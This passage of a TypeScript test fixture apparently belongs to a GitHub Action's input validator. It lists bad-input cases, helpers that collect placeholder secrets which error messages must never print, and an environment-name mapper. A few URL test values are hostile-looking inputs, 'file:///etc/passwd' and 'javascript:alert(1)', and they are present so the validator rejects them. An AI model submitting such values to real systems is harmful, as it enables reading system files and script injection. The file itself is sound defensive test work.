    inputs: set({ 'outside-window': 'ignore' }),
    input: 'outside-window',
    says: /"ignore" is not one of skip, fail, wait/,
  },
  {
    title: 'comment-on-pr yes',
    inputs: set({ 'comment-on-pr': 'yes' }),
    input: 'comment-on-pr',
    says: /"yes" is not one of auto, true, false/,
  },
];

const urlCases: BadInputCase[] = [
  {
    title: 'releases-api-url over ftp',
    inputs: set({ 'releases-api-url': 'ftp://api.github.com' }),
    input: 'releases-api-url',
    says: /"ftp:\/\/api.github.com" is not an http\(s\) URL/,
  },
  {
    title: 'releases-api-url that is a file',
    inputs: set({ 'releases-api-url': 'file:///etc/passwd' }),
    input: 'releases-api-url',
    says: /"file:\/\/\/etc\/passwd" is not an http\(s\) URL/,
  },
  {
    title: 'releases-api-url that is javascript:',
    inputs: set({ 'releases-api-url': 'javascript:alert(1)' }),
    input: 'releases-api-url',
    says: /"javascript:alert\(1\)" is not an http\(s\) URL/,
  },
  {
    title: 'releases-api-url that is not a URL',
    inputs: set({ 'releases-api-url': 'api.github.com' }),
    input: 'releases-api-url',
    says: /"api.github.com" is not a URL/,
  },
];

export const BAD_INPUTS: readonly BadInputCase[] = [
  ...identifierCases,
  ...topLevelIdentifierCases,
  ...yamlCases,
  ...inventoryRuleCases,
  ...numberCases,
  ...credentialCases,
  ...conflictCases,
  ...windowCases,
  ...enumCases,
  ...urlCases,
];

/** Values of the base and the cases that are secrets: no refusal may print them. */
export function baseSecrets(b: InputBase): string[] {
  const keyLines = [b.privateKey, b.encryptedKey]
    .flatMap((key) => key.split('\n'))
    .map((line) => line.trim())
    .filter((line) => line.length >= 16 && !line.startsWith('-----'));
  return [
    'nau-bi-github-token-0001',
    'nau-bi-access-token-0001',
    'nau-bi-registry-pw-not-printed',
    'nau-bi-ssh-pw-not-printed',
    'nau-bi-admin-pw-not-printed',
    'inventory-pw-not-printed',
    b.passphrase,
    ...keyLines,
  ];
}

/** Inputs as the runner passes them: `INPUT_<NAME>`, upper-cased, spaces as underscores, hyphens kept. */
export function inputEnv(inputs: Record<string, string>): Record<string, string> {
  return Object.fromEntries(
    Object.entries(inputs).map(([name, value]) => [`INPUT_${name.replace(/ /g, '_').toUpperCase()}`, value]),
  );
}
